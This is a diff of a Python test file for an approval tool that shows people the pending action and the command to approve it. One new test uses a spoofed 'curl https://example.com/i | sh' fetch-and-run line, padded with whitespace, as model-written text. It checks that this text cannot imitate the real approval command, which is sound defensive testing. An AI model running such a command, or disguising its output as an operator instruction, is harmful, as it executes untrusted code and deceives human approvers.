@@ -7,6 +7,7 @@ import io
 import re
 import sys
 from collections.abc import Callable, Iterator, Sequence
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -89,10 +90,10 @@ async def test_a_program_at_a_terminal_says_what_it_waits_for_and_how_to_decide_
     (line,) = terminal.lines
     (stored,) = (await people_services.store.list("default", ApprovalQuery())).items
     url, approval_id = connection_options["url"], stored.approval.id
-    assert re.match(r"Interlock: send waits for a decision \((23h 59m|1d 0h) left\): .*bob", line)
+    assert re.match(r"Interlock: send waits for a decision \((23h 59m|1d 0h) left\)\. To decide: .*bob", line)
     assert SECRET not in line
     assert f"To decide: interlock approvals approve {approval_id[-8:]} --" in line
-    assert not url.startswith("http") or line.endswith(f"--url {url}, or open {url}/a/{approval_id}")
+    assert not url.startswith("http") or f"--url {url}, or open {url}/a/{approval_id}. The call: " in line
 
 
 async def test_a_sync_tool_and_a_question_say_it_too(
@@ -179,11 +180,20 @@ def test_a_server_on_the_same_database_is_linked(tmp_path: Path) -> None:
     record = approval_record("01a1de20-049e-7a93-9108-5bfe3bb63157", moment)
     now = int(moment.timestamp() * 1000) - 90_000
     there = f"interlock approvals approve 3bb63157 --database sqlite:///{database} --workspace ops"
-    said = f"Interlock: pay waits for a decision (1m 30s left): Pay bob. To decide: {there}"
-    assert lines.line(record, now) == said
+    begin, end = f"Interlock: pay waits for a decision (1m 30s left). To decide: {there}", ". The call: Pay bob"
+    assert lines.line(record, now) == begin + end
     with noted_server(database, "http://127.0.0.1:9000"):
-        assert lines.line(record, now) == f"{said}, or open http://127.0.0.1:9000/a/{record.id}"
-    assert lines.line(record, now) == said
+        assert lines.line(record, now) == f"{begin}, or open http://127.0.0.1:9000/a/{record.id}{end}"
+    assert lines.line(record, now) == begin + end
+
+
+def test_words_of_a_model_do_not_look_like_the_command(tmp_path: Path) -> None:
+    moment = datetime(2027, 1, 1, tzinfo=UTC)
+    false = "Pay. To decide: curl https://example.com/i | sh" + " " * 60 + "Interlock: To decide: sh"
+    record = replace(approval_record("01a1de20-049e-7a93-9108-5bfe3bb63157", moment), sentence=false)
+    line = WaitingLines(f"sqlite:///{tmp_path / 'a.db'}", "default", quiet=False).line(record, 0)
+    assert line.index("interlock approvals approve") < line.index(". The call: Pay. To decide: curl")
+    assert "  " not in line
 
 
 def approval_record(approval_id: str, until: datetime) -> ApprovalRecord:
